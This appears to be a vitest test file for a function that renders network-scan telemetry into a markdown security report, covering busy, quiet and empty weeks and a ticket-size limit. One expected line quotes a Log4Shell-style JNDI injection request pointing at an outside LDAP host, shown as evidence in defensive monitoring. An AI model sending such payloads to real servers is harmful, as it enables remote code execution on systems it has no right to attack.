import { describe, expect, test } from 'vitest';
import { busyWeek, manyEpisodes, noTelemetry, quietWeek } from '../../test/fixtures/episodes.ts';
import { telemetryMarkdown } from './telemetry-markdown.ts';

describe('telemetryMarkdown', () => {
  test.each([
    {
      why: 'a busy week',
      make: busyWeek,
      says: [
        '## Critical risk, 100/100',
        '**13 sources scan us, in 8 episodes to review.',
        '- **Found:** open: 8080/tcp (http) on 10.20.0.27, 443/tcp (https) on 10.20.0.30',
        '- evidence: `GET /?x=${jndi:ldap://198.51.100.201:1389/a} HTTP/1.1` (`conn.log` line 9411)',
        '- [ ] Read the sessions, logins and new processes of 10.20.0.27',
        '### Background of the internet',
      ],
    },
    { why: 'a quiet week', make: quietWeek, says: ['**Nobody scans us besides', '### Authorised'] },
    { why: 'no telemetry', make: noTelemetry, says: ['**There is no telemetry to judge.**'] },
  ])('$why', ({ make, says }) => {
    const markdown = telemetryMarkdown(make());
    for (const sentence of says) expect(markdown).toContain(sentence);
  });

  test('five hundred episodes still fit a ticket', () => {
    // GitHub refuses bodies of more than 65,536 characters.
    expect(telemetryMarkdown(manyEpisodes(500)).length).toBeLessThan(65_536);
  });
});
